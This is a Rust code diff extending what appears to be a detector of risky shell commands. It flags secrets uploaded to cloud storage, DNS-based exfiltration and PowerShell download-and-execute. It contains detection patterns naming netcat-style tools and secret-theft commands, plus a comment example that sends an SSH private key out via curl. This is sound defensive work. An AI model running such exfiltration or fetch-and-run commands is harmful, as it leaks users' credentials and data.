@@ -16,6 +16,11 @@ pub fn read(command: &Command, before: &[Command], deeds: &mut Vec<Deed>) {
         }
         "scp" | "rsync" | "sftp" | "rclone" | "ftp" | "lftp" => copies_away(command, deeds),
         "nc" | "ncat" | "netcat" | "socat" | "telnet" => raw(command, before, deeds),
+        "aws" | "gsutil" | "gcloud" | "az" | "s3cmd" | "mc"
+            if command.says(&["cp", "put", "mv", "upload"]) =>
+        {
+            to_store(command, deeds);
+        }
         "mail" | "sendmail" | "mutt" | "mailx" | "swaks" => mails(command, before, deeds),
         "nslookup" | "dig" | "host" | "ping"
             if command.args().iter().any(|a| a.contains("$()")) =>
@@ -317,6 +322,29 @@ fn copies_away(command: &Command, deeds: &mut Vec<Deed>) {
     }
 }
 
+/// A secret copied into a store of files in a cloud.
+fn to_store(command: &Command, deeds: &mut Vec<Deed>) {
+    let to = command
+        .operands()
+        .find(|o| o.contains("://"))
+        .unwrap_or("the cloud");
+    if let Some(secret) = command
+        .operands()
+        .find(|o| holds_secrets(o) && !o.contains("://"))
+    {
+        deeds.push(Deed::new(
+            Sort::Leak,
+            0.8,
+            &["copies `", secret, "` to `", to, "`"],
+            to,
+            Senses::SEND
+                .and(Senses::UPLOAD)
+                .and(Senses::SHARE)
+                .and(CHANGING),
+        ));
+    }
+}
+
 fn raw(command: &Command, before: &[Command], deeds: &mut Vec<Deed>) {
     let line = command.line();
     if command.flag('e')
@@ -385,8 +413,10 @@ fn mails(command: &Command, before: &[Command], deeds: &mut Vec<Deed>) {
 /// it: `curl https://x/?k=$(cat ~/.ssh/id_rsa)`.
 pub fn substituted(commands: &[Command], deeds: &mut Vec<Deed>) {
     let Some(out) = commands.iter().find(|c| {
-        matches!(c.program(), "curl" | "wget" | "nc" | "ncat" | "http")
-            && c.args().iter().any(|a| a.contains("$()") && !is_header(a))
+        matches!(c.program(), "nslookup" | "dig" | "host" | "ping")
+            && c.args().iter().any(|a| a.contains('$'))
+            || matches!(c.program(), "curl" | "wget" | "nc" | "ncat" | "http")
+                && c.args().iter().any(|a| a.contains("$()") && !is_header(a))
     }) else {
         return;
     };
@@ -437,6 +467,7 @@ pub fn fetched_and_run(commands: &[Command], deeds: &mut Vec<Deed>) {
                     | "node"
                     | "php"
                     | "iex"
+                    | "IEX"
                     | "Invoke-Expression"
                     | "eval"
                     | "pwsh"
@@ -449,6 +480,11 @@ pub fn fetched_and_run(commands: &[Command], deeds: &mut Vec<Deed>) {
             let start = before.iter().rposition(|c| !c.piped).unwrap_or(0);
             before[start..].iter().any(fetches)
         };
+        let lower = command.program().to_ascii_lowercase();
+        let downloads = matches!(lower.as_str(), "iex" | "invoke-expression")
+            && commands[i..]
+                .iter()
+                .any(|c| fetches(c) || c.line().contains("DownloadString"));
         let hidden = command.piped
             && before.last().is_some_and(|c| {
                 matches!(
@@ -467,12 +503,12 @@ pub fn fetched_and_run(commands: &[Command], deeds: &mut Vec<Deed>) {
             .find(|c| fetches(c))
             .and_then(url)
             .unwrap_or("elsewhere");
-        if piped || substituted || saved {
+        if piped || substituted || saved || downloads {
             let mut deed = Deed::new(
                 Sort::Unseen,
                 0.85,
                 &["runs what `", from, "` gives, unseen"],
-                from,
+                house(from),
                 Senses::EXEC.and(CHANGING),
             );
             deed.text = [from, " | ", &command.line()].concat();
@@ -503,11 +539,16 @@ pub fn fetched_and_run(commands: &[Command], deeds: &mut Vec<Deed>) {
                 Sort::Unseen,
                 0.85,
                 &["runs what `", from, "` gives, unseen"],
-                from,
+                house(from),
                 Senses::EXEC.and(CHANGING),
             ));
         }
     }
+}
+
+/// The host of a URL: what the user must have named to trust what it gives.
+fn house(url: &str) -> &str {
+    target::url_host(url).unwrap_or(url)
 }
 
 fn saves_as(fetch: &Command, file: &str) -> bool {
